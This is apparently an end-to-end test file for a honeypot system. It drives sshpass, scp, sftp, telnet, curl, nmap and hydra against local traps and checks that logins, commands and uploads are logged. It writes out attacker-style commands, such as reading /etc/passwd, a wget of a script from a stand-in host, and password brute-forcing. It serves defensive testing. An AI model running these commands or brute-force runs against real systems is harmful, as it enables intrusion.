//! The attacks of issue 2 with the tools that attackers use, and the proof that each arrived: stored, over REST, in
//! the CLI and live over WebSocket, with address, credentials, commands, file hash and session right.
//!
//! Sessions come from loopback addresses of their own (127.0.0.11, ..), so that a wrong address cannot pass.

use std::net::SocketAddr;
use std::path::Path;

use bee_tests::module::Recorder;
use bee_tests::rest::Rest;
use bee_tests::shell::{self, Finished};
use bee_tests::wait::until;
use bee_tests::{Value, from_str, json};
use sha2::{Digest as _, Sha256};

/// A node under attack and those who watch it.
pub(crate) struct Scene<'a> {
    /// A folder for the tools.
    pub(crate) dir: &'a Path,
    /// Core's data folder.
    pub(crate) data: &'a Path,
    pub(crate) rest: &'a Rest,
    pub(crate) live: &'a Recorder,
    /// The node's id, as text.
    pub(crate) node: String,
    pub(crate) ssh: SocketAddr,
    pub(crate) telnet: SocketAddr,
    pub(crate) http: SocketAddr,
}

/// The command line's name of a filter.
const FLAGS: &[(&str, &str)] = &[
    ("src_ip", "--src"),
    ("type", "--type"),
    ("session", "--session"),
    ("text", "--search"),
    ("pot", "--pot"),
];

const TYPED: [&str; 20] = [
    "uname -a",
    "id",
    "whoami",
    "pwd",
    "cd /tmp",
    "ls -la",
    "cat /etc/passwd",
    "cat /proc/cpuinfo | head -5",
    "ps aux",
    "w",
    "free -m",
    "df -h",
    "echo hello > note.txt",
    "cat note.txt",
    "wget http://192.0.2.1/x.sh",
    "chmod +x note.txt",
    "ls && echo both",
    "false || echo other",
    "history",
    "crontab -l",
];

impl Scene<'_> {
    /// Everything, one after the other.
    pub(crate) async fn play(&self) {
        self.ssh_exec().await;
        self.ssh_terminal().await;
        self.uploads().await;
        self.telnet_client().await;
        self.curl_form().await;
        self.nmap().await;
        self.hydra("ssh", self.ssh, &["root", "123456", "e2e-hydra-ssh"]).await;
        self.hydra("telnet", self.telnet, &["root", "123456", "e2e-hydra-telnet"]).await;
    }

    async fn ssh_exec(&self) {
        let run = self.ssh("127.0.0.11", "s3cret exec", &["-T"], &["uname -a; id"], "").await.ok();
        assert!(run.contains("Linux") && run.contains("uid=0(root)"), "{run}");
        let from = ("src_ip", "127.0.0.11");
        let login = self.seen(&[from, ("type", "cowrie.login.success")], |_| true).await;
        assert_eq!(
            (&login["username"], &login["password"]),
            (&json!("root"), &json!("s3cret exec")),
            "{login}"
        );
        assert_eq!((&login["protocol"], &login["category"]), (&json!("ssh"), &json!("auth")), "{login}");
        assert_eq!(login["dst_port"], self.ssh.port(), "{login}");
        let command = self.seen(&[from, ("type", "cowrie.command.input")], |_| true).await;
        assert_eq!(command["command"], "uname -a; id", "{command}");
        let closed = self.seen(&[from, ("type", "cowrie.session.closed")], |_| true).await;
        let kex = self.seen(&[from, ("type", "cowrie.client.kex")], |_| true).await;
        assert_eq!(kex["hassh"].as_str().map(str::len), Some(32), "{kex}");
        let connect = self.seen(&[from, ("type", "cowrie.session.connect")], |_| true).await;
        for event in [&command, &closed, &kex, &connect] {
            assert_eq!(
                (&event["session"], &event["src_port"]),
                (&login["session"], &login["src_port"]),
                "{event}"
            );
        }
        let session = login["session"].as_str().unwrap();
        let whole = self.rest.events(&format!("session={session}")).await;
        assert!(whole.iter().all(|event| event["src_ip"] == "127.0.0.11"), "{whole:?}");
        assert!(whole.iter().any(|event| event["event_type"] == "cowrie.client.version"), "{whole:?}");
    }

    async fn ssh_terminal(&self) {
        let typed: String = TYPED.iter().map(|line| format!("{line}\n")).collect();
        let run = self.ssh("127.0.0.12", "terminal", &["-tt"], &[], &format!("{typed}exit\n")).await;
        assert!(run.stdout.contains("root:x:0:0:") && run.stdout.contains("hello"), "{}", run.all());
        let from = ("src_ip", "127.0.0.12");
        let closed = self.seen(&[from, ("type", "cowrie.session.closed")], |_| true).await;
        let session = closed["session"].as_str().unwrap();
        for line in TYPED {
            let input = self
                .seen(&[("session", session), ("type", "cowrie.command.input")], |event| {
                    event["command"] == line
                })
                .await;
            assert_eq!(input["src_ip"], "127.0.0.12");
        }
        let recording = self.seen(&[("session", session), ("type", "cowrie.log.closed")], |_| true).await;
        let cast = String::from_utf8(self.vault(&recording, "ttylog").await).unwrap();
        let header: Value = from_str(cast.lines().next().unwrap()).unwrap();
        assert_eq!(header["version"], 2, "an asciicast: {header}");
        assert!(cast.contains("root:x:0:0:"), "what the attacker saw: {cast}");
        // The URL was recorded; nothing was fetched, for nothing may leave the trap.
        self.seen(&[("session", session), ("text", "http://192.0.2.1/x.sh")], |event| {
            event["event_type"].as_str().unwrap().starts_with("cowrie.session.file_download")
        })
        .await;
    }

    async fn uploads(&self) {
        let port = self.ssh.port().to_string();
        for (from, tool) in [("127.0.0.13", "scp -O"), ("127.0.0.14", "scp"), ("127.0.0.15", "sftp")] {
            // Unique for the node, the tool and the day: a hash found is a hash of this run.
            let text = format!(
                "#!/bin/sh\n# {tool} to {} at {:?}\n\0\u{1}\u{2}\n",
                self.node,
                std::time::SystemTime::now()
            );
            let content: Vec<u8> = text.into_bytes().into_iter().cycle().take(70_000).collect();
            std::fs::write(self.dir.join("dropper.bin"), &content).unwrap();
            let sha256 = data_encoding::HEXLOWER.encode(&Sha256::digest(&content));
            let bind = format!("BindAddress={from}");
            let mut args = vec!["-p", "upload me", tool.split(' ').next().unwrap()];
            args.extend(OPEN_SSH);
            args.extend(["-o", &bind, "-P", &port]);
            let done = match tool {
                "sftp" => {
                    args.push("root@127.0.0.1");
                    shell::tool(self.dir, "sshpass", &args, "put dropper.bin /tmp/dropper.bin\nbye\n").await
                }
                _ => {
                    args.extend((tool == "scp -O").then_some("-O"));
                    args.extend(["dropper.bin", "root@127.0.0.1:/tmp/dropper.bin"]);
                    shell::tool(self.dir, "sshpass", &args, "").await
                }
            };
            assert_eq!(done.code, Some(0), "{tool}: {}", done.all());
            let event =
                self.seen(&[("src_ip", from), ("type", "cowrie.session.file_upload")], |_| true).await;
            assert_eq!(
                (&event["sha256"], &event["category"]),
                (&json!(sha256), &json!("file")),
                "{tool}: {event}"
            );
            assert_eq!(self.vault(&event, "download").await, content, "{tool}: Core's vault has the file");
        }
    }

    async fn telnet_client(&self) {
        let port = self.telnet.port().to_string();
        let turns = [
            ("login: ", "admin\n"),
            ("assword: ", "e2e-telnet-pw\n"),
            ("# ", "uname -a\n"),
            ("# ", "exit\n"),
        ];
        let said =
            shell::dialogue(self.dir, "telnet", &["-b", "127.0.0.17", "127.0.0.1", &port], &turns).await;
        assert!(said.contains("Linux"), "{said}");
        let from = ("src_ip", "127.0.0.17");
        let login = self.seen(&[from, ("type", "cowrie.login.success")], |_| true).await;
        assert_eq!(
            (&login["username"], &login["password"]),
            (&json!("admin"), &json!("e2e-telnet-pw")),
            "{login}"
        );
        assert_eq!(login["protocol"], "telnet", "{login}");
        let command = self
            .seen(&[from, ("type", "cowrie.command.input")], |event| event["command"] == "uname -a")
            .await;
        assert_eq!(command["session"], login["session"]);
    }

    async fn curl_form(&self) {
        let url = format!("http://{}/wp-login.php", self.http);
        let args = [
            "-sS",
            "--interface",
            "127.0.0.16",
            "-A",
            "e2e-agent/1.0",
            "--noproxy",
            "*",
            "-d",
            "log=admin&pwd=hunter2",
            "-o",
            "answer.html",
            "-w",
            "%{http_code}",
            &url,
        ];
        let status = shell::tool(self.dir, "curl", &args, "").await.ok();
        assert!(["200", "302", "401", "403"].contains(&status.as_str()), "{status}");
        let from = ("src_ip", "127.0.0.16");
        let login = self.seen(&[from, ("type", "http.login")], |_| true).await;
        assert_eq!((&login["username"], &login["password"]), (&json!("admin"), &json!("hunter2")), "{login}");
        let request = self.seen(&[from, ("type", "http.request")], |_| true).await;
        assert_eq!(
            (&request["path"], &request["user_agent"]),
            (&json!("/wp-login.php"), &json!("e2e-agent/1.0")),
            "{request}"
        );
        assert_eq!(request["session"], login["session"]);
    }

    async fn nmap(&self) {
        let ports = format!("{},{},{}", self.ssh.port(), self.telnet.port(), self.http.port());
        let args = ["-sV", "-Pn", "-n", "--version-intensity", "3", "-p", &ports, "127.0.0.1"];
        let report = shell::tool(self.dir, "nmap", &args, "").await.ok();
        assert!(report.contains("OpenSSH"), "{report}");
        assert_eq!(
            report.lines().filter(|line| line.contains("/tcp") && line.contains("open")).count(),
            3,
            "{report}"
        );
        for (port, kind) in [
            (self.ssh, "cowrie.session.connect"),
            (self.telnet, "cowrie.session.connect"),
            (self.http, "http.request"),
        ] {
            self.seen(&[("src_ip", "127.0.0.1"), ("type", kind)], |event| event["dst_port"] == port.port())
                .await;
        }
    }

    /// The trap refuses the first two passwords and takes the third.
    async fn hydra(&self, protocol: &str, address: SocketAddr, passwords: &[&str]) {
        std::fs::write(self.dir.join("passwords"), passwords.join("\n")).unwrap();
        // Its telnet module gives up on a list after the first refusals of one connection: a connection for each there.
        let tasks = if protocol == "telnet" { passwords.len().to_string() } else { "1".to_owned() };
        let port = address.port().to_string();
        let target = format!("{protocol}://127.0.0.1");
        let args = ["-I", "-l", "root", "-P", "passwords", "-t", &tasks, "-s", &port, &target];
        let run = shell::tool(self.dir, "hydra", &args, "").await;
        let found = passwords.last().unwrap();
        assert!(run.stdout.contains(&format!("password: {found}")), "{}", run.all());
        for password in passwords {
            let kind = if password == found { "cowrie.login.success" } else { "cowrie.login.failed" };
            let login = self
                .seen(&[("src_ip", "127.0.0.1"), ("type", kind)], |event| {
                    event["password"] == *password && event["protocol"] == protocol
                })
                .await;
            assert_eq!(
                (&login["username"], &login["dst_port"]),
                (&json!("root"), &json!(address.port())),
                "{login}"
            );
        }
    }

    async fn ssh(
        &self,
        from: &str,
        password: &str,
        flags: &[&str],
        command: &[&str],
        stdin: &str,
    ) -> Finished {
        let port = self.ssh.port().to_string();
        let mut args = vec!["-p", password, "ssh"];
        args.extend(OPEN_SSH);
        args.extend(flags);
        args.extend(["-b", from, "-p", &port, "root@127.0.0.1"]);
        args.extend(command);
        shell::tool(self.dir, "sshpass", &args, stdin).await
    }

    /// Waits for the event and proves that all three doors show the same one.
    async fn seen(&self, filters: &[(&str, &str)], fits: impl Fn(&Value) -> bool) -> Value {
        let encoded: Vec<String> =
            filters.iter().map(|(name, value)| format!("{name}={}", percent(value))).collect();
        let query = format!("node={}&{}", self.node, encoded.join("&"));
        let event = until(&format!("an event with {query}"), async || {
            self.rest.events(&query).await.into_iter().find(|event| fits(event))
        })
        .await;
        let mut args = vec!["--json", "events", "ls", "-n", "1000", "--node", &self.node];
        for (name, value) in filters {
            let flag = FLAGS.iter().find(|(known, _)| known == name).unwrap().1;
            args.extend([flag, *value]);
        }
        let listed = shell::honeybee(self.data, &args).await.json_lines();
        assert!(listed.contains(&event), "`honeybee events ls` shows {event} the same, among {listed:?}");
        assert_eq!(self.live.wait_id(&event["id"]).await, event, "WebSocket shows the same");
        event
    }

    /// The file that an event names, out of Core's vault.
    async fn vault(&self, event: &Value, kind: &str) -> Vec<u8> {
        let sha256 = event["sha256"].as_str().unwrap_or_else(|| panic!("no hash in {event}"));
        let artifact = until(&format!("artifact {sha256} is in Core's list"), async || {
            let list = self.rest.json("/api/v1/artifacts").await;
            list["artifacts"].as_array().unwrap().iter().find(|found| found["sha256"] == sha256).cloned()
        })
        .await;
        assert_eq!(
            (&artifact["kind"], artifact["node_id"].to_string()),
            (&json!(kind), self.node.clone()),
            "{artifact}"
        );
        std::fs::read(self.data.join("core/vault").join(&sha256[..2]).join(sha256)).unwrap()
    }
}

const OPEN_SSH: [&str; 10] = [
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "PreferredAuthentications=password",
    "-o",
    "PubkeyAuthentication=no",
    "-o",
    "LogLevel=ERROR",
];

fn percent(text: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~".contains(&byte);
    text.bytes()
        .map(|byte| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}
